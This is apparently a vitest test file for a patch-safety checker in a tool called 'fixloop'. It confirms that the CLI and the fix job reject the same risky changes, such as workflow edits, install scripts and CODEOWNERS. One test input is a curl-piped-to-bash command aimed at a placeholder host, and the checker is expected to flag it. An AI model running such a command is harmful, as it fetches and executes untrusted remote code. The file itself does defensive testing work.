/**
 * `fixloop apply` and the fix job refuse the same changes, through the one
 * shared safety function: each case of the table goes through the CLI (on a
 * real directory holding the files) and through the job's check with the
 * default repository configuration, and both name the same rule.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { CLI_SAFETY_LIMITS, runApply } from "../src/cli/apply.js";
import { DEFAULT_REPO_CONFIG, parseRepoConfig, safetyRulesFor } from "../src/config/repo-config.js";
import { changesOfPatch, checkChangeSafety, checkPatchSafety, normaliseRepoPath, parsePatch } from "../src/patch/index.js";
import { SAFETY_CASES } from "./support/unsafe-changes.js";

const work = mkdtempSync(join(tmpdir(), "fixloop-safety-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

async function throughCli(index: number, c: (typeof SAFETY_CASES)[number]) {
  const dir = join(work, `case-${index}`);
  mkdirSync(dir, { recursive: true });
  for (const [path, content] of Object.entries(c.before)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  const patch = join(work, `case-${index}.patch`);
  writeFileSync(patch, c.diff);
  const err: string[] = [];
  const code = await runApply(
    patch,
    { dir, maxLines: CLI_SAFETY_LIMITS.maxChangedLines, maxFiles: CLI_SAFETY_LIMITS.maxFiles, allowWorkflows: false, allowLockfiles: false, exclude: c.exclude ?? [], dryRun: true },
    { log: () => {}, error: (line) => err.push(line) },
  );
  return { code, err: err.join("\n") };
}

function throughJob(c: (typeof SAFETY_CASES)[number]): string[] {
  const config = c.exclude ? parseRepoConfig({ paths: { exclude: [...DEFAULT_REPO_CONFIG.paths.exclude, ...c.exclude] } }) : DEFAULT_REPO_CONFIG;
  return checkPatchSafety(parsePatch(c.diff), safetyRulesFor(config), c.before).map((v) => v.rule);
}

describe("one safety function for the CLI and the job", () => {
  test.each(SAFETY_CASES.map((c, i) => [c.name, i, c] as const))("%s", async (_name, index, c) => {
    const cli = await throughCli(index, c);
    const job = throughJob(c);
    if (c.rule === null) {
      expect(job).toEqual([]);
      expect(cli).toEqual({ code: 0, err: "" });
    } else {
      expect(job).toContain(c.rule);
      expect(cli.code).toBe(1);
      expect(cli.err).toContain(`[${c.rule}]`);
    }
  });

  test("a refused change leaves the directory untouched", async () => {
    const c = SAFETY_CASES.find((x) => x.name === "a workflow behind a ./ segment")!;
    const index = SAFETY_CASES.indexOf(c);
    await throughCli(index, c);
    expect(readFileSync(join(work, `case-${index}`, ".github/workflows/ci.yml"), "utf8")).toBe("on: push\n");
  });

  test("each kind is allowed by its own fixloop.yml switch", () => {
    const allow = (key: string) => safetyRulesFor(parseRepoConfig({ allow: { [key]: true } }));
    const rulesOf = (name: string, key: string) => {
      const c = SAFETY_CASES.find((x) => x.name === name)!;
      return checkPatchSafety(parsePatch(c.diff), allow(key), c.before).map((v) => v.rule);
    };
    expect(rulesOf("package.json gains a postinstall script", "install_scripts")).toEqual([]);
    expect(rulesOf("CI configuration .gitlab-ci.yml", "ci_config")).toEqual([]);
    expect(rulesOf("repository setting CODEOWNERS", "repo_settings")).toEqual([]);
    expect(rulesOf("curl piped to sh", "ci_config")).toEqual(["fetch-and-execute"]);
  });

  test("the entry point is format-neutral: paths and added lines, no diff needed", () => {
    const rules = safetyRulesFor(DEFAULT_REPO_CONFIG);
    expect(checkChangeSafety([{ oldPath: null, newPath: ".github//actions/x/action.yml", added: ["runs: {using: composite}"], removed: [] }], rules).map((v) => v.rule)).toEqual([
      "non-canonical-path",
      "ci-config",
    ]);
    expect(checkChangeSafety([{ oldPath: "a.sh", newPath: "a.sh", added: ["curl -s https://x.example/a | bash"], removed: [] }], rules).map((v) => v.rule)).toEqual(["fetch-and-execute"]);
    expect(changesOfPatch(parsePatch(SAFETY_CASES[0].diff))[0]).toMatchObject({ newPath: ".github/./workflows/ci.yml", added: ["on: pull_request_target"], removed: ["on: push"] });
    expect(normaliseRepoPath("./.github//workflows/./x.yml")).toBe(".github/workflows/x.yml");
    expect(normaliseRepoPath("src\\\\win\\\\a.ts")).toBe("src/win/a.ts");
  });
});
